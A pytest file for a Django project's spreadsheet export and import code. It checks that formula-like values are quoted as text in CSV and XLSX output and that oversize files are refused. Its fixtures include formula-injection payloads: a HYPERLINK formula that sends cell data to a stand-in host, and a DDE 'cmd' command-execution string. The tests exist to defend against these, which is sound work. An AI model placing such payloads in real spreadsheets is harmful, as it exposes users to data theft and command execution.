import csv
import io

import pytest
from django.core.exceptions import ValidationError
from openpyxl import load_workbook

from dte.core import spreadsheet
from dte.core.bounds import IMPORT_BYTES_MAX

ATTACKS = ['=HYPERLINK("http://x/?"&A1,"点击")', "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1"]


def test_formula_like_text_is_written_to_csv_as_text():
    data = spreadsheet.csv_bytes(["a"], [[v] for v in ATTACKS]).decode("utf-8-sig")
    cells = [r[0] for r in csv.reader(io.StringIO(data))][1:]
    assert cells == ["'" + v for v in ATTACKS]


def test_ordinary_text_and_numbers_are_written_to_csv_unchanged():
    data = spreadsheet.csv_bytes(["a", "b"], [["张三", -5], ["a=b", 3300]]).decode("utf-8-sig")
    assert list(csv.reader(io.StringIO(data)))[1:] == [["张三", "-5"], ["a=b", "3300"]]


def test_formula_like_text_is_stored_in_xlsx_as_quoted_text_not_a_formula():
    wb = load_workbook(io.BytesIO(spreadsheet.xlsx_bytes(["a"], [[v] for v in ATTACKS])))
    cells = [row[0] for row in wb.active.iter_rows(min_row=2)]
    # XML stores a carriage return as a line feed; the text is otherwise kept exactly.
    assert [c.value for c in cells] == [v.replace("\r", "\n") for v in ATTACKS]
    assert all(c.data_type == "s" and c.quotePrefix for c in cells)


def test_numbers_stay_numbers_in_xlsx():
    wb = load_workbook(io.BytesIO(spreadsheet.xlsx_bytes(["n"], [[-5], [3300]])))
    assert [r[0].value for r in wb.active.iter_rows(min_row=2)] == [-5, 3300]


def test_dict_writer_neutralises_values():
    buf = io.StringIO()
    w = spreadsheet.SafeCsvDictWriter(buf, fieldnames=["name"])
    w.writeheader()
    w.writerow({"name": "=1+1"})
    assert buf.getvalue().splitlines()[1] == "'=1+1"


def test_a_table_over_the_size_limit_is_refused_before_it_is_read():
    with pytest.raises(ValidationError) as refused:
        spreadsheet.read_table(b"PK\x03\x04" + b"x" * IMPORT_BYTES_MAX, "results.xlsx")
    assert refused.value.message_dict == {"file": ["文件大小超过 20 MB 上限,未导入任何记录;请拆分后分批上传"]}


def test_a_formula_deep_in_a_long_xlsx_is_quoted_on_its_own_row_and_the_file_is_written_in_linear_time():
    import time

    rows = [[f"姓名{i}", i] for i in range(30000)]
    rows[15000][0] = "=cmd|' /C calc'!A0"
    start = time.perf_counter()
    content = spreadsheet.xlsx_bytes(["姓名", "序号"], rows)
    elapsed = time.perf_counter() - start
    ws = load_workbook(io.BytesIO(content)).active
    quoted = [r for r in range(1, ws.max_row + 1) if ws.cell(r, 1).quotePrefix]
    assert (
        quoted == [15002]
        and ws.cell(15002, 1).value == "=cmd|' /C calc'!A0"
        and ws.cell(15002, 2).value == 15000
    )
    assert elapsed < 10  # 2 s here; by ws.max_row per row (quadratic) about 30 s
